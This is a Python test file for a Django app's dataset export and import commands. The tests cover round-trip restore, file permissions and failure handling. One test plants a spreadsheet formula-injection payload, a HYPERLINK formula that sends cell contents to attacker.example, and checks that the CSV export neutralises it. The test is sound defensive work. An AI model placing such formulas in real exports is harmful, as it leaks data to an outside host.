"""export_dataset / import_dataset: a full export restores every record and citation
into an empty database, field by field."""

import csv
import datetime
import io
import json
import stat
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.core.management.color import no_style
from django.db import connection

from prisoners.models import Person
from releases.dataset import JSON_NAME, dataset_tables
from sources.models import Citation, FeedItem, FeedRun
from tests.factories import (
    CitationFactory,
    FeedFactory,
    ObservationFactory,
    PersonFactory,
    published_person,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def records():
    """The demo dataset, plus rows of the tables it leaves empty (feeds and their items)."""
    try:
        import prisoners.demo  # noqa: F401
    except ImportError:
        published_person(name="Maryia Kalesnikava")
    else:
        call_command("load_demo", verbosity=0)
    feed = FeedFactory(config={"metric": "political_prisoners_current", "nested": {"a": [1, 2]}})
    run = FeedRun.objects.create(
        feed=feed,
        started_at=datetime.datetime(2025, 12, 23, 9, 30, 15, 123456, tzinfo=datetime.UTC),
        outcome="ok",
        http_status=200,
        bytes=1234,
        content_sha256="ab" * 32,
    )
    observation = ObservationFactory(feed_run=run, note="from the feed", value=1110)
    CitationFactory(observation=observation, quote="1 110 political prisoners", field="value")
    person = Person.objects.order_by("pk").first()
    FeedItem.objects.create(
        feed=feed,
        feed_run=run,
        external_id="viasna-42",
        payload={"name": "Імя", "released": "2025-12-13", "extra": None},
        person=person,
        match_score=0.8125,
        note="looks like a match",
    )


def snapshot() -> dict[str, list[tuple]]:
    return {
        table.label: list(table.model._default_manager.order_by("pk").values_list(*table.columns))
        for table in dataset_tables()
    }


def empty_the_dataset_tables() -> None:
    """What a freshly migrated database holds: no records (and, here, no countries)."""
    tables = [t.model._meta.db_table for t in dataset_tables()]
    # PostgreSQL refuses to TRUNCATE while deferred foreign-key checks are pending.
    connection.check_constraints()
    statements = connection.ops.sql_flush(no_style(), tables, reset_sequences=True)
    connection.ops.execute_sql_flush(statements)


def test_a_full_export_restores_every_row_of_every_table_into_an_empty_database(records, tmp_path):
    before = snapshot()
    empty = [label for label, rows in before.items() if not rows]
    assert not empty, f"the round trip would not check these tables: {empty}"
    folder = tmp_path / "dataset"

    out = io.StringIO()
    call_command("export_dataset", str(folder), stdout=out)
    assert out.getvalue().startswith("exported ")

    empty_the_dataset_tables()
    assert Person.objects.count() == 0 and Citation.objects.count() == 0

    call_command("import_dataset", str(folder), stdout=io.StringIO())
    after = snapshot()
    for label, rows in before.items():
        assert len(after[label]) == len(rows), label
        columns = next(t.columns for t in dataset_tables() if t.label == label)
        for old, new in zip(rows, after[label], strict=True):
            for column, a, b in zip(columns, old, new, strict=True):
                assert a == b, f"{label} {column}: {a!r} became {b!r}"

    # Each restored row starts its history with the restore, citizenships included.
    restored = Person.objects.filter(citizenships__isnull=False).distinct().first()
    version = restored.history.get(history_change_reason="import_dataset dataset")
    assert version.history_type == "+"
    assert set(version.citizenships.values_list("country_id", flat=True)) == set(
        restored.citizenships.values_list("code", flat=True)
    )

    # The database's own counters moved past the restored keys: new records fit in.
    person = PersonFactory()
    CitationFactory(person=person)
    assert person.pk > max(row[0] for row in before["prisoners.person"])


def test_the_export_is_owner_only_and_has_a_csv_per_table(records, tmp_path):
    folder = tmp_path / "dataset"
    call_command("export_dataset", str(folder), stdout=io.StringIO())
    files = {p.name for p in folder.iterdir()}
    assert files == {JSON_NAME} | {t.file_name for t in dataset_tables()}
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    for path in folder.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name
    header = (folder / "sources_citation.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header.split(",")[:2] == ["id", "document_id"]
    data = json.loads((folder / JSON_NAME).read_text(encoding="utf-8"))
    assert len(data["tables"]["sources.citation"]["rows"]) == Citation.objects.count()


def test_csv_cells_never_run_as_spreadsheet_formulas_but_json_keeps_the_text(tmp_path):
    planted = '=HYPERLINK("https://attacker.example/?"&A2,"x")'
    PersonFactory(name=planted, slug="planted")
    folder = tmp_path / "dataset"
    call_command("export_dataset", str(folder), stdout=io.StringIO())
    with (folder / "prisoners_person.csv").open(encoding="utf-8", newline="") as source:
        names = [row["name"] for row in csv.DictReader(source)]
    assert names == ["'" + planted]
    data = json.loads((folder / JSON_NAME).read_text(encoding="utf-8"))
    person = data["tables"]["prisoners.person"]
    assert person["rows"][0][person["columns"].index("name")] == planted


def test_import_refuses_a_database_that_holds_records(records, tmp_path):
    folder = tmp_path / "dataset"
    call_command("export_dataset", str(folder), stdout=io.StringIO())
    before = snapshot()
    with pytest.raises(CommandError, match=r"restores into an empty database.*prisoners\.person: "):
        call_command("import_dataset", str(folder), stdout=io.StringIO())
    assert snapshot() == before


def test_a_broken_dataset_restores_nothing(records, tmp_path):
    folder = tmp_path / "dataset"
    call_command("export_dataset", str(folder), stdout=io.StringIO())
    path = folder / JSON_NAME
    data = json.loads(path.read_text(encoding="utf-8"))
    citations = data["tables"]["sources.citation"]
    person_column = citations["columns"].index("person_id")
    broken = next(row for row in citations["rows"] if row[person_column] is not None)
    broken[person_column] = 10**9  # a citation of a person who is not in the file
    path.write_text(json.dumps(data), encoding="utf-8")

    empty_the_dataset_tables()
    with pytest.raises(CommandError, match="nothing was restored"):
        call_command("import_dataset", str(folder), stdout=io.StringIO())
    assert Person.objects.count() == 0
    assert Citation.objects.count() == 0


def test_export_refuses_a_folder_that_is_not_empty(tmp_path):
    (tmp_path / "something.txt").write_text("keep me", encoding="utf-8")
    with pytest.raises(CommandError, match="not an empty folder"):
        call_command("export_dataset", str(tmp_path), stdout=io.StringIO())
    assert (tmp_path / "something.txt").read_text(encoding="utf-8") == "keep me"


def test_import_names_a_folder_that_is_not_a_dataset(tmp_path):
    with pytest.raises(CommandError, match="dataset.json not found"):
        call_command("import_dataset", str(tmp_path), stdout=io.StringIO())


class FakeTerminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_on_a_terminal_and_one_summary_line(records, tmp_path):
    piped = io.StringIO()
    call_command("export_dataset", str(tmp_path / "a"), stdout=piped)
    assert "\r" not in piped.getvalue()
    assert len(piped.getvalue().splitlines()) == 1

    terminal = FakeTerminal()
    call_command("export_dataset", str(tmp_path / "b"), stdout=terminal)
    assert "exporting: " in terminal.getvalue()
    # The progress line is erased ("\r" + erase to end of line) before the summary.
    assert terminal.getvalue().rsplit("\x1b[K", 1)[-1].startswith("exported ")

    empty_the_dataset_tables()
    terminal = FakeTerminal()
    call_command("import_dataset", str(tmp_path / "b"), stdout=terminal)
    assert "importing: " in terminal.getvalue()
    summary = terminal.getvalue().rsplit("\x1b[K", 1)[-1]
    assert summary.startswith("imported ") and Path(tmp_path / "b").name in summary
